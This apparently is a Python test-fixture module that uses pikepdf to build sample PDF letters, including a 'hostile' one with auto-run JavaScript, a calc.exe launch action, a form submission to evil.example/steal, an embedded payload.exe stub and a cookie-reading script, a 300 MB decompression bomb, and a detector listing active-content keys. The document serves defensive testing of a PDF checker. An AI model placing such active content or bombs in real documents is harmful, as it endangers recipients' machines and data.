"""PDF letters for tests, built with pikepdf: a plain one-page letter, and hostile ones carrying
every kind of active content a viewer might run."""

from __future__ import annotations

import io
import random
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCRIPT = "app.alert('pwned')"


def _letter(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 14 Tf 72 770 Td (SURAT TUGAS) Tj ET")
    return pdf


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def pdf_letter(pages: int = 1) -> bytes:
    """An ordinary letter: "SURAT TUGAS" on each page."""
    return _save(_letter(pages))


def encrypted_letter() -> bytes:
    """A letter that opens without a password but is encrypted (owner password only)."""
    return _save(_letter(), encryption=pikepdf.Encryption(owner="pemilik", user=""))


def hostile_letter() -> bytes:
    """A letter with scripts run on opening, on page events and from links; launch, submit and
    import actions; an XFA form; an embedded file; and an HTML page after the end of the file."""
    pdf = _letter()
    js = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT)))
    pdf.Root.OpenAction = js
    pdf.Root.AA = Dictionary(WC=js)
    embedded = pdf.make_stream(b"MZ payload.exe")
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("auto"), js])),
        EmbeddedFiles=Dictionary(
            Names=Array(
                [
                    String("payload.exe"),
                    Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=embedded)),
                ]
            )
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp><script>app.alert(1)</script></xdp>"))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=js)

    def link(action: Dictionary) -> Dictionary:
        return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 200, 720]), A=action)

    page.Annots = Array(
        [
            link(Dictionary(S=Name.JavaScript, JS=String(SCRIPT))),
            link(Dictionary(S=Name.Launch, F=String("calc.exe"))),
            link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/steal"))),
            link(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
            link(
                Dictionary(
                    S=Name.URI,
                    URI=String("https://perpusnas.go.id"),
                    Next=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)),
                )
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([0, 0, 10, 10]),
                FS=Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=embedded)),
            ),
        ]
    )
    return _save(pdf) + b"\n<html><script>alert(document.cookie)</script></html>\n"


ACTIVE_NAMES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData"}
ACTIVE_KEYS = {"/OpenAction", "/AA", "/JS", "/XFA", "/EmbeddedFiles", "/EF"}


def active_content(content: bytes) -> list[str]:
    """What in the PDF a viewer could run or open by itself: every such key and action type found
    in any object of the file (reachable or not)."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for obj in pdf.objects:
            _inspect(obj, found)
    return found


def _inspect(obj: object, found: list[str]) -> None:
    """Look into `obj` and its direct children (indirect ones are visited as objects of their own;
    direct objects cannot form cycles)."""
    if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
        for key, value in obj.items():
            if key in ACTIVE_KEYS:
                found.append(key)
            if key == "/S" and str(value) in ACTIVE_NAMES:
                found.append(str(value))
            if key == "/Subtype" and str(value) == "/FileAttachment":
                found.append(str(value))
            if not (isinstance(value, pikepdf.Object) and value.is_indirect):
                _inspect(value, found)
    elif isinstance(obj, pikepdf.Array):
        for value in obj:
            if not (isinstance(value, pikepdf.Object) and value.is_indirect):
                _inspect(value, found)


def page_text(content: bytes) -> str:
    """The drawing instructions of the first page (where the letter's words are)."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        return pdf.pages[0].Contents.read_bytes().decode("latin-1")


def bomb_letter(inflated: int = 300 * 1024 * 1024) -> bytes:
    """A one-page letter with an extra stream of `inflated` zero bytes stored Flate-compressed (about a
    thousandth of it): a decompression bomb for whoever opens it."""
    pdf = _letter()
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    raw = b"".join(compressor.compress(block) for _ in range(inflated // len(block))) + compressor.flush()
    bomb = pikepdf.Stream(pdf, raw)
    bomb.Filter = Name.FlateDecode
    pdf.pages[0].obj.Resources.Bomb = pdf.make_indirect(bomb)
    return _save(pdf, compress_streams=False)


def compressed_scan(size: int = 12 * 1024 * 1024) -> bytes:
    """A letter with a large, honestly compressible stream (half noise, half blank: about half as
    big stored, like a scan), over the size at which a stream becomes suspect."""
    pdf = _letter()
    noise = random.Random(1).randbytes(size // 2) + bytes(size - size // 2)
    scan = pikepdf.Stream(pdf, zlib.compress(noise, 6))
    scan.Filter = Name.FlateDecode
    pdf.pages[0].obj.Resources.Scan = pdf.make_indirect(scan)
    return _save(pdf, compress_streams=False)
